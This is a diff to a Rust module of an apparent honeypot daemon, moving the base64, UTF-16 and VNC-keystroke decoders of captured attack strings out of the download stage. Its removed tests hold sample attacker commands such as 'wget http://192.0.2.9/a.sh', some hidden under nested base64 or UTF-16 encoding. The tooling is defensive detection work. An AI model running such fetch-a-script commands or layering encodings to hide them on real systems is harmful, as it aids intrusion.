@@ -1,8 +1,8 @@
-//! The pre-processing and analysis stages (the C PREPROC and ANALYZE plugins): decode the
-//! attack string (`b64Decode`, `deUnicode`, `vncDownload`), find the download commands in it
-//! and in every derived string, fetch each file with the client of its scheme and attach it to
-//! the attack. Replaces the hook calls of htm_b64Decode.c, htm_deUnicode.c, htm_vncDownload.c
-//! and the plugin entry points of htm_ftpDownload.c, htm_tftpDownload.c, htm_httpDownload.c.
+//! The download stage (the download half of the C ANALYZE plugins): find the download
+//! commands in the attack string and in every string the decoders derived from it
+//! ([`super::decode::Decoders`]), fetch each file with the client of its scheme and attach it
+//! to the attack. Replaces the plugin entry points of htm_ftpDownload.c, htm_tftpDownload.c
+//! and htm_httpDownload.c. (The name "analysis" is kept for the file analysers to come.)
 //!
 //! Deliberate differences from the C plugins (docs/COMPATIBILITY.md, Differences from the C
 //! honeytrap):
@@ -22,7 +22,6 @@
 //!   private-address test; the fallback to the attacker's address also follows a failed name
 //!   lookup, and applies to HTTP.
 
-use super::decode;
 use super::download::policy::{self, is_private_or_invalid};
 use super::download::{ftp, http, tftp, Context, Error, Fetched, Limits, Policy};
 use super::extract;
@@ -37,127 +36,6 @@ use std::net::{IpAddr, SocketAddr};
 use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
 use std::sync::{Condvar, Mutex};
 use std::time::{Duration, Instant};
-
-/// Most bytes the decoders derive from one attack, every string and nesting level together:
-/// decoding goes as deep as the encodings go, until this budget (or the daemon's memory
-/// budget for attack data) is spent.
-pub const DECODE_BUDGET: usize = 16 << 20;
-/// Most strings derived from one attack by the decoders (nested decoding included).
-pub const MAX_DERIVED: usize = 64;
-
-/// Which decoders run (`plugin-b64Decode`, `plugin-deUnicode`, `plugin-vncDownload`).
-#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
-pub struct Decoders {
-    pub b64: bool,
-    pub unicode: bool,
-    pub vnc: bool,
-}
-
-/// The strings derived so far and what is left of the budgets.
-struct Derived<'c> {
-    out: Vec<Vec<u8>>,
-    /// Bytes of [`DECODE_BUDGET`] left.
-    left: usize,
-    /// Pays for `out` in the daemon's memory budget.
-    charge: &'c mut Charge,
-    /// Strings not kept for want of budget (or beyond [`MAX_DERIVED`]).
-    left_out: usize,
-}
-
-impl Derived<'_> {
-    /// The largest string that could still be kept.
-    fn room(&self) -> usize {
-        if self.out.len() >= MAX_DERIVED {
-            0
-        } else {
-            self.left
-        }
-    }
-
-    /// Keeps `d` if it is new and the budgets allow; returns whether it was kept.
-    fn push(&mut self, d: Vec<u8>, original: &[u8]) -> bool {
-        if d.is_empty() || d == original || self.out.contains(&d) {
-            return false;
-        }
-        if d.len() > self.room() || !self.charge.try_grow(d.len()) {
-            self.left_out += 1;
-            return false;
-        }
-        self.left -= d.len();
-        self.out.push(d);
-        true
-    }
-}
-
-impl Decoders {
-    /// The strings the decoders derive from `data`, breadth first, each one decoded again in
-    /// turn, as long as [`DECODE_BUDGET`], [`MAX_DERIVED`] and the daemon's memory budget
-    /// (through `charge`, which pays for the strings returned) allow; each is logged as the
-    /// C plugins did, and strings left out for want of budget are logged too.
-    pub fn derive(&self, data: &[u8], charge: &mut Charge) -> Vec<Vec<u8>> {
-        self.derive_within(data, charge, DECODE_BUDGET)
-    }
-
-    /// [`Decoders::derive`] with a decoding budget of `budget` bytes.
-    fn derive_within(&self, data: &[u8], charge: &mut Charge, budget: usize) -> Vec<Vec<u8>> {
-        let mut d = Derived { out: Vec::new(), left: budget, charge, left_out: 0 };
-        // The VNC session is only recognised in the original string (it starts with the
-        // protocol banner).
-        if self.vnc {
-            if let Some(keys) = decode::vnc_keystrokes(data).filter(|k| k.len() <= d.room()) {
-                log_info!("vncDownload - Keystrokes found in VNC session, {} bytes reconstructed.", keys.len());
-                d.push(keys, data);
-            }
-        }
-        self.decode_one(data, &mut d, data);
-        // Every string kept is decoded once, in the order found.
-        let mut next = 0;
-        while next < d.out.len() {
-            let s = std::mem::take(&mut d.out[next]);
-            self.decode_one(&s, &mut d, data);
-            d.out[next] = s;
-            next += 1;
-        }
-        if d.left_out > 0 {
-            static WARN: Throttle = Throttle::new(Duration::from_secs(10));
-            if let Some(more) = WARN.due() {
-                log_warn!(
-                    "Decoder - Warning - {} decoded strings of an attack not analysed: decoding budget ({} bytes, {} strings) or memory budget spent ({} more since the last warning).",
-                    d.left_out,
-                    budget,
-                    MAX_DERIVED,
-                    more
-                );
-            }
-        }
-        d.out
-    }
-
-    /// Runs the decoders over `s` once, keeping what they find in `d`.
-    fn decode_one(&self, s: &[u8], d: &mut Derived<'_>, original: &[u8]) {
-        if self.b64 {
-            let (blobs, over) = decode::negotiate_blobs_within(s, d.room());
-            let (runs, over_runs) = decode::base64_runs_within(s, d.room());
-            d.left_out += over + over_runs;
-            if !blobs.is_empty() || !runs.is_empty() {
-                log_info!("Base64 decoder - Encoded attack string found, trying to decode.");
-                log_info!("Base64 decoder - Calling plugins for decoded attack.");
-            }
-            for b in blobs.into_iter().chain(runs) {
-                d.push(b, original);
-            }
-        }
-        if self.unicode && decode::looks_utf16(s) {
-            // UTF-16 halves the string: decoded only when the half fits.
-            if s.len().div_ceil(2) > d.room() {
-                d.left_out += 1;
-            } else if let Some(u) = decode::de_unicode(s) {
-                log_noisy!("deUnicode - Attack string seems to contain unicode encoded data, decoding it.");
-                d.push(u, original);
-            }
-        }
-    }
-}
 
 /// What the download stage reports as it goes, for the event stream.
 pub enum Note<'a> {
@@ -720,69 +598,6 @@ mod tests {
         let wget = Downloader::from_config(&wget).unwrap().unwrap();
         assert_eq!(wget.http, Some(HttpSettings { program: Some(("/usr/bin/wget".into(), "-q -O-".into())) }));
         assert!(!wget.enabled(Scheme::Tftp));
-    }
-
-    #[test]
-    fn decoders_nest_and_only_the_configured_ones_run() {
-        let inner = "wget http://192.0.2.9/a.sh";
-        let http =
-            format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", decode::base64_encode(inner.as_bytes()));
-        let utf16: Vec<u8> = http.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
-        let all = Decoders { b64: true, unicode: true, vnc: true };
-        let none = &mut Charge::none();
-        let derived = all.derive(&utf16, none);
-        // UTF-16 first, then the base64 body inside it.
-        assert_eq!(derived.first().map(Vec::as_slice), Some(http.as_bytes()));
-        assert!(derived.iter().any(|d| d == inner.as_bytes()), "{derived:?}");
-        let reqs = requests_of(&utf16, &derived);
-        assert_eq!(reqs.len(), 1, "{reqs:?}");
-        assert_eq!((reqs[0].host.as_str(), reqs[0].path.as_str()), ("192.0.2.9", "/a.sh"));
-        // Without deUnicode the base64 body stays hidden in the UTF-16 string.
-        assert!(Decoders { unicode: false, ..all }.derive(&utf16, none).is_empty());
-        assert!(Decoders::default().derive(http.as_bytes(), none).is_empty());
-        // VNC: key-down/key-up pairs after the banner.
-        let mut vnc = b"RFB 003.008\n".to_vec();
-        vnc.extend(inner.bytes().flat_map(|c| [c, c]));
-        assert_eq!(Decoders { vnc: true, ..Decoders::default() }.derive(&vnc, none), [inner.as_bytes().to_vec()]);
-    }
-
-    /// `levels` layers of base64, each one embedded in a line of text.
-    fn nested_base64(cmd: &str, levels: usize, pad: usize) -> Vec<u8> {
-        let mut s = format!("{cmd} #{}", "p".repeat(pad));
-        for _ in 0..levels {
-            s = format!("data={}\n", decode::base64_encode(s.as_bytes()));
-        }
-        s.into_bytes()
-    }
-
-    #[test]
-    fn nested_encodings_are_followed_at_any_depth_within_the_budget() {
-        let b64 = Decoders { b64: true, ..Decoders::default() };
-        let cmd = "wget http://192.0.2.7/deep.sh";
-        for levels in [4, 5, 9] {
-            let a = nested_base64(cmd, levels, 0);
-            let derived = b64.derive(&a, &mut Charge::none());
-            assert_eq!(derived.len(), levels, "{levels} levels");
-            let reqs = requests_of(&a, &derived);
-            assert_eq!(reqs.len(), 1, "{levels} levels: {reqs:?}");
-            assert_eq!(reqs[0].path, "/deep.sh");
-        }
-        // A big nest: decoding stops once the next layer no longer fits the decoding budget
-        // (the outer layers are kept), and the strings are charged to the memory budget.
-        let within = 64 << 10;
-        let big = nested_base64(cmd, 4, within / 3);
-        let budget = crate::budget::Budget::new(1 << 30);
-        let mut charge = budget.charge();
-        let derived = b64.derive_within(&big, &mut charge, within);
-        let total: usize = derived.iter().map(Vec::len).sum();
-        assert_eq!(derived.len(), 1, "only the outer layer fits");
-        assert!(total <= within && charge.bytes() == total && budget.used() == total);
-        drop(derived);
-        drop(charge);
-        assert_eq!(budget.used(), 0);
-        // The memory budget: nothing derived when it has no room.
-        let tight = crate::budget::Budget::new(16);
-        assert!(b64.derive(&nested_base64(cmd, 2, 0), &mut tight.charge()).is_empty());
     }
 
     #[test]
